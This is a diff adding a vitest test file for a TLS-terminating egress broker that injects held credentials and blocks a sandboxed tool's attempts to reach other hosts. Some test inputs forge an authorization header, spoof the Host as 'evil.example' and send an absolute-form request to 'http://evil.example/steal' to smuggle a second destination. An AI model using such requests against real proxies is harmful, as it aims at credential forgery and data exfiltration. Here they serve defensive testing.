@@ -1,0 +1,247 @@
+import { generateKeyPairSync, X509Certificate } from 'node:crypto';
+import { createServer } from 'node:https';
+import { type AddressInfo, connect, type Socket } from 'node:net';
+import { connect as tlsConnect, type TLSSocket } from 'node:tls';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type BrokerEndpoint, createEgressBroker, type EgressRecord } from '../src/broker.js';
+import { issueCa, issueLeaf } from '../src/x509.js';
+import { loopbackOnlyConnect } from './helpers.js';
+import { stubResolver } from './ssrf-corpus.js';
+
+const SECRET = 'Bearer held-by-the-broker';
+
+/** An HTTPS server on 127.0.0.2 for `host`, with its own throwaway CA; it records what it receives. */
+async function upstream(host: string) {
+  const k = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+  const now = Date.now();
+  const ca = issueCa({ key: k.privateKey, publicKey: k.publicKey, name: 'upstream ca', nowMs: now, ttlMs: 3600_000 });
+  const leaf = issueLeaf({
+    host,
+    publicKey: k.publicKey,
+    ca,
+    caKey: k.privateKey,
+    caName: 'upstream ca',
+    caPublicKey: k.publicKey,
+    nowMs: now,
+    ttlMs: 3600_000,
+  });
+  const seen: { url: string; headers: Record<string, unknown>; body: string }[] = [];
+  const server = createServer(
+    { key: k.privateKey.export({ type: 'pkcs8', format: 'pem' }), cert: leaf.pem },
+    (req, res) => {
+      let body = '';
+      req.on('data', (c: Buffer) => {
+        body += c.toString();
+      });
+      req.on('end', () => {
+        seen.push({ url: req.url ?? '', headers: { ...req.headers }, body });
+        res.end('pong');
+      });
+    },
+  );
+  await new Promise<void>((ok) => server.listen(0, '127.0.0.2', ok));
+  return {
+    ca: ca.pem,
+    port: (server.address() as AddressInfo).port,
+    seen,
+    close: () =>
+      new Promise<void>((ok) => {
+        server.closeAllConnections();
+        server.close(() => ok());
+      }),
+  };
+}
+
+/** CONNECT through the broker, then TLS to whatever answers, trusting `ca` only. */
+function tunnel(endpoint: BrokerEndpoint, target: string, servername: string, ca: string) {
+  return new Promise<TLSSocket | string>((ok, fail) => {
+    const s: Socket = connect(endpoint.path);
+    let buf = '';
+    const onData = (c: Buffer) => {
+      buf += c.toString('latin1');
+      if (!buf.includes('\r\n\r\n')) return;
+      s.off('data', onData);
+      if (!buf.startsWith('HTTP/1.1 200')) {
+        s.destroy();
+        return ok(buf.split('\r\n').slice(0, 2).join(' | '));
+      }
+      const t = tlsConnect({ socket: s, servername, ca });
+      t.once('secureConnect', () => ok(t));
+      t.once('error', fail);
+    };
+    s.on('data', onData);
+    s.on('error', fail);
+    s.write(`CONNECT ${target} HTTP/1.1\r\nhost: ${target}\r\n\r\n`);
+  });
+}
+
+/** Writes raw request text on a socket and reads until it closes. */
+function exchange(s: TLSSocket, text: string) {
+  return new Promise<string>((ok) => {
+    let out = '';
+    s.on('data', (c: Buffer) => {
+      out += c.toString();
+    });
+    s.on('close', () => ok(out));
+    s.on('error', () => ok(out));
+    s.write(text);
+  });
+}
+
+describe('the broker terminates TLS for hosts with inject', () => {
+  let up: Awaited<ReturnType<typeof upstream>>;
+  let broker: ReturnType<typeof createEgressBroker>;
+  let endpoint: BrokerEndpoint;
+  const records: EgressRecord[] = [];
+  const spy = loopbackOnlyConnect();
+
+  beforeAll(async () => {
+    up = await upstream('api.inject.test');
+    broker = createEgressBroker({
+      tool: 'mitm',
+      policy: {
+        allow: [
+          { host: 'api.inject.test', ports: [up.port], inject: { authorization: SECRET, 'x-api-key': 'k1' } },
+          { host: 'plain.inject.test', ports: [up.port] },
+        ],
+        unsafeAllowAddresses: ['127.0.0.2'],
+      },
+      resolve: stubResolver({ 'api.inject.test': ['127.0.0.2'], 'plain.inject.test': ['127.0.0.2'] }).resolve,
+      connect: spy.fn,
+      tls: { ca: up.ca },
+      onRecord: (r) => records.push(r),
+    });
+    endpoint = await broker.open();
+    endpoint.setCall('call-7');
+  });
+  afterAll(async () => {
+    await broker.close();
+    await up.close();
+  });
+
+  it("presents a certificate for the host from the broker's CA, which holds no other name", async () => {
+    const ca = broker.caCertificate as string;
+    const x = new X509Certificate(ca);
+    expect(x.ca).toBe(true);
+    const t = await tunnel(endpoint, `api.inject.test:${up.port}`, 'api.inject.test', ca);
+    expect(typeof t).not.toBe('string');
+    const peer = (t as TLSSocket).getPeerX509Certificate();
+    expect(peer?.checkHost('api.inject.test')).toBe('api.inject.test');
+    expect(peer?.checkHost('plain.inject.test')).toBeUndefined();
+    expect(peer?.checkIssued(x)).toBe(true);
+    (t as TLSSocket).destroy();
+  });
+
+  it('the injected headers win over the tool’s own, and Host is the tunnel’s target, whatever the tool says', async () => {
+    const before = up.seen.length;
+    const t = (await tunnel(
+      endpoint,
+      `api.inject.test:${up.port}`,
+      'api.inject.test',
+      broker.caCertificate as string,
+    )) as TLSSocket;
+    const reply = await exchange(
+      t,
+      'POST /v1/x HTTP/1.1\r\nhost: evil.example\r\nauthorization: Bearer forged\r\nX-Api-Key: mine\r\nproxy-authorization: p\r\ncontent-length: 5\r\nconnection: close\r\n\r\nhello',
+    );
+    expect(reply).toMatch(/^HTTP\/1\.1 200/);
+    expect(reply.endsWith('pong')).toBe(true);
+    const got = up.seen.slice(before);
+    expect(got).toHaveLength(1);
+    expect(got[0]?.headers).toMatchObject({
+      authorization: SECRET,
+      'x-api-key': 'k1',
+      host: `api.inject.test:${up.port}`,
+    });
+    expect(got[0]?.headers['proxy-authorization']).toBeUndefined();
+    expect(got[0]).toMatchObject({ url: '/v1/x', body: 'hello' });
+    expect(records.at(-1)).toMatchObject({
+      tool: 'mitm',
+      callId: 'call-7',
+      kind: 'https',
+      allowed: true,
+      bytesOut: 5,
+      bytesIn: 4,
+    });
+  });
+
+  it('refuses a request target in absolute form inside the tunnel (no second destination)', async () => {
+    const before = up.seen.length;
+    const t = (await tunnel(
+      endpoint,
+      `api.inject.test:${up.port}`,
+      'api.inject.test',
+      broker.caCertificate as string,
+    )) as TLSSocket;
+    const reply = await exchange(
+      t,
+      'GET http://evil.example/steal HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\n\r\n',
+    );
+    expect(reply).toMatch(/^HTTP\/1\.1 400/);
+    expect(up.seen.length).toBe(before);
+    expect(records.at(-1)).toMatchObject({ kind: 'https', allowed: false, reason: 'bad-host' });
+  });
+
+  it('a tool that speaks garbage instead of TLS gets the connection closed, and the tunnel is still recorded', async () => {
+    const n = records.length;
+    const reply = await new Promise<string>((ok) => {
+      const s = connect(endpoint.path);
+      let buf = '';
+      s.on('data', (c: Buffer) => {
+        buf += c.toString('latin1');
+        if (buf.includes('\r\n\r\n')) s.write(Buffer.alloc(4096, 0x16));
+      });
+      s.on('close', () => ok(buf));
+      s.on('error', () => ok(buf));
+      s.write(`CONNECT api.inject.test:${up.port} HTTP/1.1\r\nhost: x\r\n\r\n`);
+    });
+    expect(reply).toMatch(/^HTTP\/1\.1 200/);
+    // The record is written when the terminated tunnel closes, just after the client saw it close.
+    for (let i = 0; i < 500 && records.length === n; i++) await new Promise((r) => setTimeout(r, 10));
+    expect(records.slice(n)).toEqual([
+      expect.objectContaining({ kind: 'https', allowed: true, bytesIn: 0, bytesOut: 0 }),
+    ]);
+  });
+
+  it('hosts without inject keep an end-to-end tunnel: the tool sees the server’s own certificate', async () => {
+    const t = await tunnel(endpoint, `plain.inject.test:${up.port}`, 'api.inject.test', up.ca);
+    expect(typeof t).not.toBe('string');
+    expect((t as TLSSocket).getPeerX509Certificate()?.issuer).toBe('CN=upstream ca');
+    (t as TLSSocket).destroy();
+  });
+
+  it('a broker without inject rules has no CA at all', () => {
+    const b = createEgressBroker({ tool: 'x', policy: { allow: [{ host: 'a.test' }] } });
+    expect(b.caCertificate).toBeUndefined();
+    return b.close();
+  });
+
+  it('an upstream that fails the name check is refused before the tunnel is granted', async () => {
+    const b = createEgressBroker({
+      tool: 'mitm',
+      policy: {
+        allow: [{ host: 'other.inject.test', ports: [up.port], inject: { authorization: SECRET } }],
+        unsafeAllowAddresses: ['127.0.0.2'],
+      },
+      resolve: async () => ['127.0.0.2'],
+      connect: spy.fn,
+      tls: { ca: up.ca },
+      onRecord: (r) => records.push(r),
+    });
+    const e = await b.open();
+    try {
+      const before = up.seen.length;
+      const line = await tunnel(e, `other.inject.test:${up.port}`, 'other.inject.test', b.caCertificate as string);
+      expect(line).toBe('HTTP/1.1 502 Bad Gateway | x-agentguard-egress: upstream-untrusted');
+      expect(up.seen.length).toBe(before);
+      expect(records.at(-1)).toMatchObject({
+        kind: 'https',
+        allowed: false,
+        reason: 'upstream-untrusted',
+        detail: 'ERR_TLS_CERT_ALTNAME_INVALID',
+      });
+    } finally {
+      await b.close();
+    }
+  });
+});
